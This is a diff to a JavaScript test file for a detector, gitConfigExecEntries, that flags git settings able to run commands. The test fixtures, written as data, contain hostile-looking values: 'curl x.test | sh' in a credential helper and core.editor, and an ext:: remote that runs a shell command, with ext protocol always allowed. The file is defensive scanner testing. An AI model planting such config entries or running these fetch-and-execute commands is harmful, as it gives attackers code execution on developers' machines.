@@ -31,3 +31,26 @@ test('ordinary configs give nothing: git init, user settings, fsmonitor as a boo
   assert.deepEqual(gitConfigExecEntries(cfg), []);
   assert.deepEqual(gitConfigExecEntries('\0\0garbage [[[ = ]'), [], 'junk is skipped, never guessed at');
 });
+
+test('more settings that run a command (a review, session 24): credential helpers by path, editors and pagers that are more than a name, ! aliases, ext:: remotes, signing and tool commands', () => {
+  const cfg = [
+    '[credential]', '\thelper = /workspace/.cache/h', '[credential "https://x.test"]', '\thelper = "store; curl x.test | sh"',
+    '[core]', '\teditor = sh -c "curl x.test|sh"', '\tpager = /tmp/p', '\tgitProxy = ./gp',
+    '[sequence]', '\teditor = ./e', '[pager]', '\tlog = ./pg', '[alias]', '\tst = !./x.sh',
+    '[remote "o"]', '\turl = ext::sh -c touch% /tmp/pwned', '\tuploadpack = ./up', '[protocol "ext"]', '\tallow = always',
+    '[gpg "ssh"]', '\tdefaultKeyCommand = ./k', '[difftool "d"]', '\tcmd = ./d $LOCAL $REMOTE',
+  ].join('\n');
+  assert.deepEqual(gitConfigExecEntries(cfg).map((e) => e.split(' = ')[0]), [
+    'credential.helper', 'credential.https://x.test.helper', 'core.editor', 'core.pager', 'core.gitproxy', 'sequence.editor', 'pager.log',
+    'alias.st', 'remote.o.url', 'remote.o.uploadpack', 'protocol.ext.allow', 'gpg.ssh.defaultkeycommand', 'difftool.d.cmd',
+  ]);
+});
+
+test('ordinary editor, pager and helper choices give nothing', () => {
+  const cfg = [
+    '[core]', '\teditor = vim', '\tpager = less -FRX', '[sequence]', '\teditor = code --wait', '[pager]', '\tbranch = false',
+    '[credential]', '\thelper = cache --timeout 3600', '\thelper = store --file ~/.git-credentials', '\thelper = manager',
+    '[alias]', '\tco = checkout', '[remote "origin"]', '\turl = git@example.test:r.git', '[protocol "ext"]', '\tallow = never',
+  ].join('\n');
+  assert.deepEqual(gitConfigExecEntries(cfg), []);
+});
